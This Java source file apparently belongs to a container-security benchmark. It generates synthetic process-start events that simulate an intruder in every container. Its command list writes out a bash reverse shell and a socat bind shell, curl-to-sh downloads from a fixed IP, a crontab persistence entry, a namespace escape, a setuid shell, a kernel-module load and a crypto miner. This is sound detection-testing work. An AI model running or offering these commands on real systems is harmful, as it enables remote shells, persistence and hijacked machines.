package io.hivesec.examples.bench;

import io.hivesec.event.Container;
import io.hivesec.event.Context;
import io.hivesec.event.Event;
import io.hivesec.event.Process;
import io.hivesec.event.ProcessStarted;
import io.hivesec.event.User;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/** What an intruder does in each container of a stream before it goes on: alerts that all that follows might revise. */
final class Attacks {
    private static final String[][] COMMANDS = {
        {"bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1"},
        {"sh", "-c", "curl -s http://203.0.113.9/x | sh"},
        {"nsenter", "-t", "1", "-m", "-u", "sh"},
        {"xmrig", "-o", "stratum+tcp://pool.example.net:3333", "-u", "x"},
        {"sh", "-c", "echo '* * * * * root curl http://203.0.113.9/a|sh' >> /etc/crontab"},
        {"sh", "-c", "chmod u+s /bin/bash"},
        {"insmod", "/tmp/x.ko"},
        {"socat", "TCP-LISTEN:4444,fork", "EXEC:/bin/sh"},
    };

    private Attacks() {}

    /** The same commands in each container of a stream, in the seconds before it begins. */
    static List<Event> before(List<Event> stream) {
        Set<Container> containers = new LinkedHashSet<>();
        stream.forEach(event -> containers.add(event.container()));
        Instant time = stream.get(0).time().minusSeconds(5);
        List<Event> attacks = new ArrayList<>();
        int pid = 100;
        for (String[] command : COMMANDS) {
            for (Container container : containers) {
                Process process = Process.builder()
                        .pid(pid++)
                        .ppid(1)
                        .executable("/usr/bin/" + command[0])
                        .arguments(command)
                        .user(User.of(1000, 1000, "app"))
                        .startTime(time)
                        .build();
                attacks.add(new ProcessStarted(Context.of(time, container, process)));
            }
        }
        return attacks;
    }
}
